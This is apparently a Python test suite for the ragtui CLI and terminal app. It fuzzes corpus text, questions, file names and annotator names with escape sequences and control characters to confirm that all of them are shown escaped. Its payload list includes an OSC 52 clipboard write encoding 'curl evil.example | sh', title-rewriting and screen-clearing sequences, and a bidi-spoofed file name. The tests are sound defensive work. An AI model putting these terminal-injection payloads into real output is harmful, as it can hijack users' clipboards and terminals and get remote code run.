"""Hostile text (issue 12, item 1): escape sequences and control characters in corpus text, questions,
slices, file names and annotator names never reach the terminal raw, from the CLI, its error
messages or the app (the real app in tmux, read back with ``capture-pane -e`` and the pane title).

The fuzz test draws its inputs with Hypothesis (fixed seed, ``RAGTUI_FUZZ_EXAMPLES`` examples, 40 by
default) from every C0 and C1 control, DEL, the bidi controls and whole sequences (OSC 52 clipboard
writes, window titles, screen clears, CSI as a C1 byte, DCS, hyperlinks), and runs every command that
prints data on them.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shutil
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from ragtui.cli import main
from tests.conftest import MINI, MINI_CHUNK_SIZE
from tests.tmux import Pane, app_env, needs_tmux, shell_command

EXAMPLES = int(os.environ.get("RAGTUI_FUZZ_EXAMPLES", "40"))

#: What must never be printed raw: C0 but tab and newline, DEL, C1, the bidi controls, lone surrogates.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

#: Whole sequences an attacker would write (what each would do to a terminal that received it raw).
SEQUENCES = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\",  # OSC 52: "curl evil.example | sh" to the clipboard
    "\x1b]52;c;cHduZWQ=\x07",  # OSC 52 ended by BEL
    "\x1b]0;PWNED\x07",  # the window title
    "\x1b]2;PWNED\x1b\\",
    "\x1b[2J",  # clear the screen
    "\x1b[H\x1b[?1049h",  # home, alternate screen
    "\x1b[31;1m",  # colour
    "\x9b31m",  # CSI as one C1 character
    "\x9d0;PWNED\x9c",  # OSC as C1, ended by ST as C1
    "\x1bP+q544e\x1b\\",  # DCS (a terminfo query)
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",  # a hyperlink
    "\u202egnp.exe",  # right-to-left override
    "\u2066isolate\u2069",
]
#: Every C0 control but NUL (a file holding NUL is skipped as binary), DEL and every C1 control.
CONTROLS = "".join(chr(c) for c in [*range(1, 0x20), *range(0x7F, 0xA0)])
BIDI = "".join(chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)])
LETTERS = "abcxyz Ü-é"

_pieces = st.one_of(
    st.sampled_from(SEQUENCES),
    st.text(alphabet=CONTROLS + BIDI + LETTERS, min_size=1, max_size=6),
)
#: Hostile text: sequences and controls mixed with a few letters.
hostile = st.lists(_pieces, min_size=1, max_size=5).map("".join)
#: A file name's bytes: any byte but "/" and NUL (so also ESC, BEL, C1 bytes and bytes that are not UTF-8).
hostile_name = st.binary(min_size=1, max_size=40).map(
    lambda b: b.replace(b"/", b"_").replace(b"\x00", b"_")
)

FUZZ = settings(
    max_examples=EXAMPLES,
    derandomize=True,
    deadline=None,
    # An example runs 15 commands: shrinking a failure would take minutes; the failing input is printed.
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def assert_clean(text: str, what: str) -> None:
    """No raw control character (an escape sequence's ESC above all) in ``text``."""
    found = RAW_CONTROL.search(text)
    assert found is None, (
        f"{what} printed a raw {found.group()!r} at {found.start()}: {text[max(0, found.start() - 60) : found.start() + 60]!r}"
    )


def run_cli(*argv: str) -> tuple[int, str, str]:
    """``ragtui ARGV`` in this process: exit code, stdout, stderr."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(["--no-project", *argv])
        except SystemExit as exc:  # a usage error, printed by argparse
            code = int(exc.code or 0)
    return code, out.getvalue(), err.getvalue()


def write_hostile_set(
    root: Path,
    text: str,
    question: str,
    slices: list[str],
    file_name: bytes,
    annotators: tuple[str, str],
) -> tuple[Path, Path]:
    """The small corpus and golden set with hostile data in every place data can be: returns (corpus, golden)."""
    corpus, golden = root / "corpus", root / "golden"
    shutil.copytree(MINI / "corpus", corpus)
    shutil.copytree(MINI / "golden", golden)
    # Corpus text: in a document every question retrieves, and as a document of its own.
    with (corpus / "ferry.md").open("a", encoding="utf-8") as out:
        out.write(f"\n\nA return adult ferry ticket {text} costs 5.80 EUR.\n")
    (corpus / os.fsdecode(file_name + b".md")).write_bytes(
        f"ferry ticket {text} hostile file name\n".encode()
    )
    rows = [json.loads(line) for line in (golden / "questions.jsonl").read_text().splitlines()]
    rows[0]["question"] = f"How much is a return ferry ticket? {question}"
    rows[0]["slices"] = [*rows[0]["slices"], *slices]
    rows[1]["slices"] = [*rows[1]["slices"], *slices]
    (golden / "questions.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    # Two annotators with hostile names who disagree on the same pairs.
    labels = []
    for chunk, grades in (("ferry.md#1", (2, 0)), ("ferry.md#0", (0, 1))):
        for annotator, grade in zip(annotators, grades, strict=True):
            labels.append(
                {
                    "question": "m01",
                    "chunk": chunk,
                    "grade": grade,
                    "chunk_sha1": "",
                    "at": "2026-01-01T00:00:00.000+00:00",
                    "annotator": annotator,
                }
            )
    (golden / "labels.jsonl").write_text("".join(json.dumps(r) + "\n" for r in labels))
    return corpus, golden


def cli_outputs(root: Path, corpus: Path, golden: Path, question: str, annotators: tuple[str, str]):
    """Every command that prints data, on the hostile set: (what, exit code, stdout, stderr)."""
    data = ["--corpus", str(corpus), "--golden", str(golden), "--chunk-size", str(MINI_CHUNK_SIZE)]
    bm25 = [*data, "--retrievers", "bm25"]
    yield "eval --by-slice", *run_cli("eval", "--by-slice", *bm25)
    yield "eval --json", *run_cli("eval", "--json", "--by-slice", *bm25)
    yield "check", *run_cli("check", *bm25)
    yield "agreement", *run_cli("agreement", "--annotators", *annotators, *bm25)
    yield "eval --save a", *run_cli("eval", "--save", "a", *bm25)
    yield "eval --k 1 --save b", *run_cli("eval", "--k", "1", "--save", "b", *bm25)
    yield "diff", *run_cli("diff", "a", "b", "--k", "3", *bm25)
    yield "diff --json", *run_cli("diff", "a", "b", "--json", *bm25)
    yield "report", *run_cli("report", *bm25)
    yield "export", *run_cli("export", str(root / "export"), *bm25)
    # Error messages that quote the data: evidence in no chunk, a question already there.
    yield (
        "add-question (no chunk)",
        *run_cli(
            "add-question", "--question", f"new {question}", "--evidence", f"{question} zqx", *bm25
        ),
    )
    yield (
        "add-question",
        *run_cli(
            "add-question", "--question", f"Ticket {question}?", "--evidence", "ferry ticket", *bm25
        ),
    )
    yield "explain (unknown id)", *run_cli("explain", question, *bm25)


def bad_file_outputs(root: Path, text: str, file_name: bytes):
    """Errors that name a hostile file: a corpus file that is not UTF-8, a broken questions.jsonl."""
    folder = root / os.fsdecode(b"corpus-" + file_name)
    folder.mkdir()
    (folder / os.fsdecode(file_name + b".md")).write_bytes(b"caf\xe9 " + text.encode())
    yield "not UTF-8", *run_cli("eval", "--corpus", str(folder), "--retrievers", "bm25")
    golden = root / os.fsdecode(b"golden-" + file_name)
    golden.mkdir()
    (golden / "questions.jsonl").write_text(json.dumps({"id": text, "question": text}) + "\n")
    yield (
        "questions.jsonl",
        *run_cli("check", "--corpus", str(MINI / "corpus"), "--golden", str(golden)),
    )


@FUZZ
@given(
    text=hostile,
    question=hostile,
    slices=st.lists(hostile, min_size=1, max_size=2),
    file_name=hostile_name,
    # Names given as arguments: no NUL (argv cannot hold it), no leading "-" (that is an option).
    annotators=st.tuples(hostile, hostile).filter(
        lambda p: p[0] != p[1] and "\x00" not in p[0] + p[1] and "-" not in p[0][:1] + p[1][:1]
    ),
)
def test_no_command_prints_a_raw_control_character_from_the_data(
    text, question, slices, file_name, annotators
):
    """Every command that prints data, and every error that quotes it, shows controls as escapes."""
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        corpus, golden = write_hostile_set(root, text, question, slices, file_name, annotators)
        codes = {}
        for what, code, out, err in [
            *cli_outputs(root, corpus, golden, question, annotators),
            *bad_file_outputs(root, text, file_name),
        ]:
            assert_clean(out, f"{what} (stdout)")
            assert_clean(err, f"{what} (stderr)")
            codes[what] = code
            # Every stderr line is ragtui's own (warnings, notices, one error), never a traceback.
            lines = err.splitlines()
            assert all(line.startswith("ragtui: ") for line in lines), f"{what}: {err}"
            if code == 2:
                assert [line for line in lines if line.startswith("ragtui: error: ")] == lines[-1:]
        # The commands ran on the data (the escapes were shown, not refused), and the errors were errors.
        assert codes["eval --by-slice"] == 0 and codes["eval --json"] == 0, codes
        assert codes["agreement"] == 0 and codes["diff"] == 0 and codes["report"] == 0, codes
        assert codes["add-question (no chunk)"] == 2 and codes["add-question"] == 0, codes
        assert codes["not UTF-8"] == 2 and codes["questions.jsonl"] == 2, codes


def test_escapes_in_the_data_are_shown_as_text(tmp_path: Path) -> None:
    """The OSC 52 sequence of the issue, in a document, a question, a slice and a file name: shown as ``\\x1b]52…``."""
    osc52 = SEQUENCES[0]
    corpus, golden = write_hostile_set(
        tmp_path, osc52, osc52, ["s" + SEQUENCES[2]], b"x\x1b]52;c;cHduZWQ=\x07y\xff", ("a", "b")
    )
    data = ["--corpus", str(corpus), "--golden", str(golden), "--chunk-size", str(MINI_CHUNK_SIZE)]
    code, out, err = run_cli("eval", "--by-slice", *data, "--retrievers", "bm25")
    assert code == 0 and "s\\x1b]0;PWNED\\x07" in out, out
    assert "x\\x1b]52;c;cHduZWQ=\\x07y\\xff.md: the file name is not UTF-8" in err
    code, out, err = run_cli("explain", "m01", *data)
    assert code == 0
    assert_clean(out + err, "explain")
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x1b\\" in out  # the question, shown
    assert "x\\x1b]52;c;cHduZWQ=\\x07y\\xff.md#0" in out  # the file's chunk, ranked
    # A TREC run with a hostile name and a bad line: the error names the file, escaped (it was not).
    run = tmp_path / "run\x1b]0;PWNED\x07.trec"
    run.write_text("m01 Q0 ferry.md#0 1\n")
    code, out, err = run_cli("eval", *data, "--retrievers", "bm25", "--run", f"r={run}")
    assert code == 2 and "run\\x1b]0;PWNED\\x07.trec:1: expected 6 columns" in err
    assert_clean(err, "a bad run file")


# ---- the app, in a real terminal ------------------------------------------------------------------

#: Every escape sequence tmux's capture-pane -e writes itself: SGR (colours and attributes).
_SGR = re.compile(r"\x1b\[[0-9;:]*m")
#: What a pane is titled before the app starts (tmux's own default is the host name).
PANE_TITLE = "ragtui-hostile-test"
#: OSC 52 becomes a tmux paste buffer, OSC 0/2 the pane title: what an escape would change.
ESCAPES_ACT = {"set-clipboard": "on", "allow-rename": "on"}


def assert_terminal_untouched(pane: Pane, where: str) -> None:
    """Nothing the data holds acted on the terminal: only SGR in the capture, the title kept, no clipboard write."""
    raw = pane.screen(escapes=True)
    other = re.findall(r"\x1b.{0,12}", _SGR.sub("", raw))
    assert not other, f"{where}: escape sequences reached the terminal: {other[:5]}"
    assert_clean(_SGR.sub("", raw), where)
    title = pane.value("#{pane_title}")
    assert title == PANE_TITLE, f"{where}: the data retitled the pane: {title!r}"
    assert pane.tmux("list-buffers") == "", f"{where}: the data wrote to the clipboard (OSC 52)"


@needs_tmux
def test_the_app_shows_hostile_data_as_text_in_a_real_terminal(tmp_path: Path, cache_dir: Path):
    """One app, every list and view that draws data: question list, result lists, chunk view, judging
    view, agreement; the pane is checked after each."""
    corpus, golden = write_hostile_set(
        tmp_path,
        "".join(SEQUENCES),
        SEQUENCES[0] + SEQUENCES[2],
        [SEQUENCES[3] + "s", SEQUENCES[7]],
        b"x\x1b]0;FILE\x07\x9b31my\xff",
        (SEQUENCES[4] + "ann", SEQUENCES[1] + "bob"),
    )
    env = app_env(cache_dir, XDG_DATA_HOME=str(tmp_path / "xdg"))
    python = shutil.which("python3") or "python3"
    args = [
        python,
        "-m",
        "ragtui",
        "--no-project",
        "--corpus",
        str(corpus),
        "--golden",
        str(golden),
    ]
    args += ["--chunk-size", str(MINI_CHUNK_SIZE), "--annotator", "tester"]
    pane = Pane()
    pane.start(shell_command(args, env), 120, 40, options=ESCAPES_ACT, title=PANE_TITLE)
    try:
        screen = pane.wait_for(
            lambda s: re.search(r"vector\s+all\s+\d\.\d{3}", s) is not None, 120, "the app"
        )
        assert_terminal_untouched(pane, "the main screen")
        # The question, its slices and the hostile file's chunk are on screen, as text.
        assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in screen
        assert "\\x1b]2;PWNED" in screen
        assert "\\xff.md#0" in screen or "\\x9b" in screen
        pane.keys("Tab")  # the bm25 list: its chunk shows in the chunk view, hostile text and all
        pane.wait_for(
            lambda s: "Grade" in s and "\\x1b]52;c;cHduZWQ=" in s, 10, "the hostile chunk text"
        )
        assert_terminal_untouched(pane, "the chunk view")
        for _ in range(3):
            before = pane.screen()
            pane.keys("Down")  # down the list, past the hostile file's chunk
            pane.wait_for(lambda s, before=before: s != before, 10, "the cursor to move")
            pane.settled()
            assert_terminal_untouched(pane, "the result list")
        pane.keys("j")  # the judging view: the question in full, the chunk at full width
        pane.wait_for(
            lambda s: re.search(r"pair \d+ of", s) and "\\x1b]52" in s, 10, "the judging view"
        )
        assert_terminal_untouched(pane, "the judging view")
        pane.keys("Escape")
        pane.wait_for(lambda s: not re.search(r"pair \d+ of", s), 10, "the main screen again")
        pane.keys("C-p")
        pane.wait_for("Search for commands", 10, "the command palette")
        pane.type("agreement")
        pane.wait_for(
            lambda s: "agreement" in s and "Search for commands" not in s, 10, "the command"
        )
        pane.keys("Enter")  # the agreement report: the two annotators' names
        pane.wait_for(lambda s: "\\x1b[2Jann" in s, 15, "the annotators in the agreement report")
        assert_terminal_untouched(pane, "the agreement report")
        pane.keys("Escape")
        pane.wait_for(lambda s: "\\x1b[2Jann" not in s, 10, "the report closed")
        pane.keys("C-q")
        pane.exited(0, 20)
        assert_terminal_untouched(pane, "after the app quit")
    finally:
        pane.kill()
